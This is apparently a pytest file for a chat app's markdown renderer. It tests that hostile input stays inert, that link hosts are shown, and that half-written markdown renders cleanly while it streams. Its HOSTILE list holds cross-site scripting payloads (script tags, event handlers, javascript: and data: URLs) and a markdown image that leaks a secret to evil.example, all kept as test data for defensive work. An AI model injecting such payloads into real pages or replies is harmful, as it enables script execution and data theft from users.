"""What models and pages write is drawn as text: nothing of it acts, loads anything, or hides where it leads."""

import re

import pytest

from chat.markdown import blocks_of, html_of, repaired

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![leak](https://evil.example/?q=secret)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/)",
    "[x](/h/ABCDEFGH/people/)",
    '[x](https://a.example/" onmouseover="alert(1))',
    "<a href='javascript:alert(1)'>x</a>",
    '<https://a.example/?"><script>alert(1)</script>>',
    "<style>*{display:none}</style><iframe src=//evil.example></iframe>",
    "```<script>\n</script><svg onload=alert(1)>\n```",
    "|<b onclick=alert(1)>a|b|\n|-|-|\n|<form action=//evil>|2|",
    "[a]: javascript:alert(1)\n\n[a]",
]
ALLOWED = {"p", "a", "em", "span", "pre", "code", "div", "table", "thead", "tbody", "tr", "th", "td", "br"}


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("unfinished", [True, False])
def test_nothing_hostile_comes_through(text: str, unfinished: bool) -> None:
    html = html_of(text, unfinished=unfinished)
    assert set(re.findall(r"<(\w+)", html)) <= ALLOWED
    for tag in re.findall(r"<[^>]+>", html):
        assert not re.search(r"\son\w+\s*=|javascript:|data:|style=|src=", tag, re.IGNORECASE), tag
    for link in re.findall(r"<a [^>]*>", html):
        assert re.search(r'href="https?://', link)
        assert 'rel="noopener noreferrer nofollow"' in link


def test_a_link_says_where_it_leads() -> None:
    html = html_of("[bank.example](https://evil.example/in)")
    assert '<span class="host">(evil.example)</span>' in html
    # A host that only begins like the words is named too.
    assert "(example.or)" in html_of("[example.org](https://example.or/)")
    assert "host" not in html_of("<https://example.org/soup>")


def test_the_pages_own_headings_stay_the_highest() -> None:
    assert blocks_of("# One\n\n###### Six") == ("<h3>One</h3>", "<h6>Six</h6>")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Hi **bo", "<p>Hi <strong>bo</strong></p>"),
        ("Hi **bold*", "<p>Hi <strong>bold</strong></p>"),
        ("Hi **", "<p>Hi</p>"),
        ("an *em", "<p>an <em>em</em></p>"),
        ("some `co", "<p>some <code>co</code></p>"),
        ("see [the page](https://exam", "<p>see the page</p>"),
        ("see [the pa", "<p>see the pa</p>"),
        ("2 * 3 and snake_case", "<p>2 * 3 and snake_case</p>"),
        ("```\nfor **x", "<pre><code>for **x</code></pre>"),
    ],
)
def test_what_has_begun_is_ended_while_it_is_written(text: str, shown: str) -> None:
    assert "".join(blocks_of(text, unfinished=True)) == shown


def test_every_beginning_of_a_text_renders_and_keeps_its_blocks() -> None:
    text = "Three fit:\n\n- **Curry** with `spinach`\n- *Soup*, see [it](https://example.org/a)\n\n1. First\n2. Then\n"
    whole = blocks_of(text)
    for end in range(len(text)):
        so_far = blocks_of(text[:end], unfinished=True)
        assert so_far[:-1] == whole[: max(0, len(so_far) - 1)]
        assert "**" not in "".join(so_far)


def test_what_is_whole_is_left_alone() -> None:
    text = "**a** and *b*, `c` and [d](https://example.org)"
    assert repaired(text) == text
